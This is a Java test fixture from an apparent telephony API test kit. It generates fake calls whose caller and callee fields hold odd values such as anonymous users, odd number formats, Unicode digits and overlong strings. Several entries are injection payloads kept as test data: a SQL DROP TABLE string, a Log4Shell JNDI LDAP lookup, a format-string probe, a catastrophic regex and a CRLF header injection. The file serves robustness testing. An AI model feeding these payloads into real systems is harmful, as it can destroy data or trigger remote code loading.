package io.drawbridge.api.testkit;

import java.util.ArrayList;
import java.util.List;
import java.util.Optional;

/**
 * Calls as the field brings them and no author thinks of: anonymous, without a number, endless, in other scripts, full
 * of what breaks patterns, queries and logs. The kernel passes such users on as received.
 */
public final class OddCalls {
    private static final List<String> USERS = List.of(
            "",
            "anonymous",
            "Anonymous",
            "unavailable",
            "+",
            "+0",
            "0",
            "*72",
            "#31#+15550100",
            "%2B15550100",
            "00905550100",
            "+1 (555) 01-00",
            "+15550100;phone-context=example.test",
            "alice",
            "'; DROP TABLE calls; --",
            "${jndi:ldap://192.0.2.1/a}",
            "%s%n%x",
            "(a+)+$",
            ".*",
            "[",
            "\\",
            // Arabic-Indic and full-width digits, which some phones show as the plain ones.
            "+\u0661\u0665\u0665\u0665\u0660\u0661\u0660\u0660",
            "\uff0b\uff11\uff15\uff15\uff15",
            // A right-to-left override, a zero-width joiner, an unpaired surrogate, a NUL, a line break.
            "\u202e0010555",
            "+1555\u200d0100",
            "+1555\ud800",
            "+1555\u00000100",
            "+1555\r\nX: y",
            "1".repeat(4096),
            "a".repeat(4096) + "!");

    private OddCalls() {
    }

    /** All of them: each odd user as caller and as callee, parties without host, headers of odd names. */
    public static List<FakeCall> all() {
        List<FakeCall> calls = new ArrayList<>();
        for (String user : USERS) {
            calls.add(FakeCall.builder().caller(user).build());
            calls.add(FakeCall.builder().callee(user).build());
        }
        FakeParty nobody = new FakeParty("", "", Optional.empty(), Optional.of(""));
        calls.add(FakeCall.builder().caller(nobody).callee(nobody).network("").source("::1").build());
        calls.add(FakeCall.builder().caller(FakeParty.of("anonymous").withE164("+15550100")).build());
        calls.add(FakeCall.builder().header("", "").header("X-Empty", "").header("x-empty", " ").build());
        calls.add(FakeCall.builder().label("", "").label("plugin.key", "").offer("").build());
        calls.add(FakeCall.builder().score(Integer.MAX_VALUE).emergency().trunk("no such trunk").build());
        return calls;
    }
}
